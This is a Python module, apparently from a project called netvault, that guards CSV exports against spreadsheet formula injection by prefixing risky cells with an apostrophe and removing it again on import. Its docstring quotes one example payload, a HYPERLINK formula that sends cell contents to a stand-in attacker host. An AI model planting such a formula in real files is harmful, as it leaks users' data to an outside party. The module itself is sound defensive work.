"""CSV cells a spreadsheet cannot run: OWASP's advice against formula injection.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (`=HYPERLINK("http://evil.example/?"&A1,"Click")` sends the
sheet away). netvault's CSV export puts a `'` before such a cell, which spreadsheets show as
text and do not display; netvault's CSV importer takes that one `'` off again, so an export
imports back unchanged. A cell that is only a phone number (`+49 30 1234567`) is left as it
is: digits and separators cannot call anything.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PHONE = re.compile(r"\+?[\d ()./-]+")
_MIN_PHONE_DIGITS, _MAX_PHONE_DIGITS = 7, 15


def _is_phone_number(cell: str) -> bool:
    digits = sum(ch.isdigit() for ch in cell)
    return _MIN_PHONE_DIGITS <= digits <= _MAX_PHONE_DIGITS and _PHONE.fullmatch(cell) is not None


def _needs_quote(cell: str) -> bool:
    """A formula start, possibly behind `'`s that an import would otherwise eat."""
    bare = cell.lstrip("'")
    return bare.startswith(FORMULA_STARTS) and not (bare == cell and _is_phone_number(cell))


def escape_cell(cell: str) -> str:
    """The cell as written to CSV: `'` before anything a spreadsheet would run."""
    return "'" + cell if _needs_quote(cell) else cell


def unescape_cell(cell: str) -> str:
    """The cell as read from CSV: the one `'` `escape_cell` added taken off again."""
    return cell[1:] if cell.startswith("'") and _needs_quote(cell[1:]) else cell
